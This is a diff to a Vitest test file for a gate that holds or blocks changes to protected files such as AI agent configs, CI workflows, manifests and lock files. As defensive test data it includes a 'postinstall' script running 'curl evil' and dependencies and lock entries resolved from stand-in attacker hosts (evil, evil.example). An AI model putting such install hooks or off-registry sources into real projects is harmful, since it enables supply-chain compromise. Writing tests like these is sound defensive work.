@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import type { FilePolicy } from '../../src/domain/file-policy.ts';
 import { gate } from '../../src/gates/protected-files.ts';
 import { type Change, evidenceOf } from '../support/evidence.ts';
 
@@ -22,18 +23,15 @@ describe('src/gates/protected-files.ts', () => {
     '.claude/settings.json',
     'api/.codex/config.toml',
     '.mcp.json',
+    '.cursor/rules/a.mdc',
+    '.github/copilot-instructions.md',
+    'pip.conf',
+    '.pypirc',
+    '.yarnrc.yml',
+    '.lfsconfig',
     'AGENTS.md',
     'api/CLAUDE.md',
-    'package-lock.json',
-    'biome.json',
-    'tsconfig.build.json',
-    'eslint.config.js',
-    'conftest.py',
-    '.mocharc.yml',
-    'api/.babelrc.json',
-    'vitest.workspace.ts',
     'bunfig.toml',
-    'pyproject.toml',
     '.env',
     'node_modules/.bin/vitest',
     '.gitlab-ci.yml',
@@ -54,28 +52,94 @@ describe('src/gates/protected-files.ts', () => {
     expect(kinds.map(({ kind }) => kind)).toEqual(['hold', 'hold', 'hold']);
   });
 
-  test('holds changed scripts of package.json, since a check may call them', async () => {
-    const base = '{"scripts":{"test":"npm run build && t","build":"b"}}';
-    const head = '{"scripts":{"test":"npm run build && t","build":"exit 0"}}';
+  test('holds scripts that installing runs, and a manifest that nobody can read', async () => {
+    const base = '{"scripts":{"test":"a"}}';
+    const head = '{"scripts":{"test":"b","postinstall":"curl evil"}}';
     expect(await judge({ 'package.json': { base, head } })).toMatchObject({
       kind: 'hold',
-      findings: [{ path: 'package.json', message: expect.stringContaining('changed scripts,') }],
+      findings: [{ message: 'package.json has another script `postinstall`, which installing runs.' }],
     });
     expect((await judge({ 'package.json': { base, head: '{' } })).kind).toBe('hold');
-    expect((await judge({ 'api/package.json': { base } })).kind).toBe('hold');
-    expect((await judge({ 'api/package.json': { head: '{"name":"a"}' } })).kind).toBe('pass');
   });
 
-  test.each(['jest', 'mocha', 'prettier', 'workspaces', 'dependencies', 'overrides', 'imports'])(
+  test.each(['workspaces', 'overrides', 'imports', 'packageManager', 'bin', 'pnpm'])(
     'holds a changed %s of package.json, which a tool may obey',
     async (field) => {
-      const head = `{"name":"a","${field}":{"testMatch":[]}}`;
+      const head = `{"name":"a","${field}":{"a":"1"}}`;
       expect(await judge({ 'package.json': { base: '{"name":"a"}', head } })).toMatchObject({
         kind: 'hold',
         findings: [{ path: 'package.json', message: expect.stringContaining(`changed ${field},`) }],
       });
     },
   );
+
+  test.each(['file:../evil', 'git+ssh://evil/a.git', 'https://evil/a.tgz', 'someone/a', 'npm:b@1.0.0'])(
+    'holds a dependency on %s',
+    async (spec) => {
+      const head = JSON.stringify({ dependencies: { a: spec } });
+      expect(await judge({ 'package.json': { base: '{}', head } })).toMatchObject({
+        kind: 'hold',
+        findings: [{ message: 'package.json takes a from elsewhere than the registry.' }],
+      });
+    },
+  );
+
+  describe('lock files', () => {
+    const manifest = { base: '{}', head: '{"dependencies":{"a":"^1.0.0"}}' };
+    function entry(integrity: string, host = 'registry.npmjs.org'): string {
+      return `{"packages":{"node_modules/a":{"version":"1.0.0",\n"resolved":"https://${host}/a.tgz",\n"integrity":"${integrity}"}}}`;
+    }
+
+    test.each<[string, Change['files']]>([
+      [
+        'with its manifest',
+        { 'package.json': manifest, 'package-lock.json': { base: '{}', head: entry('x') } },
+      ],
+      ['of a workspace', { 'api/package.json': manifest, 'pnpm-lock.yaml': { base: 'a', head: 'b' } }],
+      ['of another language', { 'Cargo.toml': { head: 'a' }, 'Cargo.lock': { base: 'a', head: 'b' } }],
+    ])('a change %s is ordinary', async (_, files) => {
+      expect((await judge(files)).kind).toBe('pass');
+    });
+
+    test.each<[string, Change['files'], string]>([
+      ['alone', { 'yarn.lock': { base: 'a', head: 'b' } }, 'modified without its manifest'],
+      [
+        'whose manifest asks for nothing else',
+        {
+          'package.json': { base: '{"version":"1"}', head: '{"version":"2"}' },
+          'yarn.lock': { base: 'a', head: 'b' },
+        },
+        'without its manifest',
+      ],
+      [
+        'whose manifest is elsewhere',
+        { 'web/package.json': manifest, 'api/yarn.lock': { base: 'a', head: 'b' } },
+        'without its manifest',
+      ],
+      ['deleted', { 'package.json': manifest, 'package-lock.json': { base: '{}' } }, 'was deleted'],
+      ['in bytes', { 'package.json': manifest, 'bun.lockb': { base: 'a', head: 'a\0b' } }, 'cannot be read'],
+      [
+        'with another host',
+        { 'package.json': manifest, 'package-lock.json': { base: '{}', head: entry('x', 'evil.example') } },
+        'takes packages from evil.example',
+      ],
+      [
+        'with other content for a version',
+        { 'package.json': manifest, 'package-lock.json': { base: entry('x'), head: entry('y') } },
+        'other content for the same version of a',
+      ],
+    ])('holds one %s', async (_, files, message) => {
+      expect(await judge(files)).toMatchObject({
+        kind: 'hold',
+        findings: [{ message: expect.stringContaining(message) }],
+      });
+    });
+
+    test('knows the hosts that the base took packages from', async () => {
+      const lock = { base: entry('x', 'npm.corp.example'), head: `${entry('x', 'npm.corp.example')}\n` };
+      expect((await judge({ 'package.json': manifest, 'package-lock.json': lock })).kind).toBe('pass');
+    });
+  });
 
   test.each<[string, Change['files']]>([
     ['source and tests', { 'src/a.ts': { head: 'x' }, 'test/a.test.ts': { head: 'x' } }],
@@ -95,10 +159,67 @@ describe('src/gates/protected-files.ts', () => {
     expect(await judge(files)).toMatchObject({ summary: expect.stringMatching(/\.github\/e and 2 more\.$/) });
   });
 
-  test('takes the list and additions from the workflow', async () => {
-    const files = { 'db/schema.sql': { head: 'x' } };
-    expect((await judge(files)).kind).toBe('pass');
-    expect((await judge(files, { also: ['db/**'] })).kind).toBe('hold');
-    expect((await judge({ '.npmrc': { head: 'x' } }, { globs: ['db/**'] })).kind).toBe('pass');
+  describe('policies', () => {
+    const db = { 'db/schema.sql': { head: 'x' } };
+    const ci = { '.github/workflows/ci.yml': { base: 'a', head: 'b' } };
+
+    function judgeHere(
+      files: Change['files'],
+      protectedFiles: readonly FilePolicy[],
+      policy: readonly FilePolicy[] = [],
+    ) {
+      const evidence = evidenceOf({ files: files ?? {}, settings: { protectedFiles: [...protectedFiles] } });
+      return gate.judge(evidence, gate.options.parse({ policy }));
+    }
+
+    test('come from the workflow, and from the repository over those', async () => {
+      expect((await judge(db)).kind).toBe('pass');
+      expect((await judge(db, { policy: [{ glob: 'db/**' }] })).kind).toBe('hold');
+      expect(
+        (await judgeHere(db, [{ glob: 'db/**', policy: 'allow' }], [{ glob: 'db/**', policy: 'hold' }])).kind,
+      ).toBe('pass');
+      expect((await judgeHere(ci, [{ glob: '.github/workflows/**', policy: 'allow' }])).kind).toBe('pass');
+      expect(
+        (await judgeHere({ 'package-lock.json': { head: 'x' } }, [{ glob: '*-lock.json', policy: 'allow' }]))
+          .kind,
+      ).toBe('pass');
+    });
+
+    test('of which the last that fits decides', async () => {
+      const policies = [
+        { glob: 'db/**', policy: 'block' },
+        { glob: 'db/*.sql', policy: 'allow' },
+      ] as const;
+      expect((await judgeHere(db, policies)).kind).toBe('pass');
+      expect((await judgeHere(db, policies.toReversed())).kind).toBe('fail');
+    });
+
+    test('can send a change back to its author, who is told what else is held', async () => {
+      expect(await judgeHere({ ...db, ...ci }, [{ glob: 'db/**', policy: 'block' }])).toEqual({
+        kind: 'fail',
+        summary: 'Nobody may change db/schema.sql here.',
+        findings: [
+          {
+            path: 'db/schema.sql',
+            message: 'db/schema.sql was added, and nobody may change it here. Take the change back.',
+            severity: 'error',
+          },
+          expect.objectContaining({ path: '.github/workflows/ci.yml', severity: 'warning' }),
+        ],
+      });
+      const moved = { 'old.sql': { from: 'db/schema.sql', base: 'x', head: 'x' } };
+      expect((await judgeHere(moved, [{ glob: 'db/**', policy: 'block' }])).kind).toBe('fail');
+    });
+
+    test.each([
+      '.github/baton.yml',
+      '.GitHub/Baton.yml',
+      '.github/baton/roles/a.md',
+      '.github/baton/workflows/a.yaml',
+    ])('never make a change of %s ordinary', async (path) => {
+      const files = { [path]: { base: 'a', head: 'b' } };
+      expect((await judgeHere(files, [{ glob: '**', policy: 'allow' }])).kind).toBe('hold');
+      expect((await judgeHere(files, [{ glob: '**', policy: 'block' }])).kind).toBe('fail');
+    });
   });
 });
